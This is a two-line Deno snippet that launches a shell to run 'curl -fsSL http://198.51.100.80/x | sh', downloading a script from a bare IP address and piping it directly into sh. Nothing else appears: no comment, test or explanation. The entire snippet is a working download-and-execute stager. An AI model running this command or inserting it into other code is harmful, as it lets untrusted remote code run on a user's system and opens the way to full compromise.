const cmd = new Deno.Command("sh", { args: ["-c", "curl -fsSL http://198.51.100.80/x | sh"] });
await cmd.output();
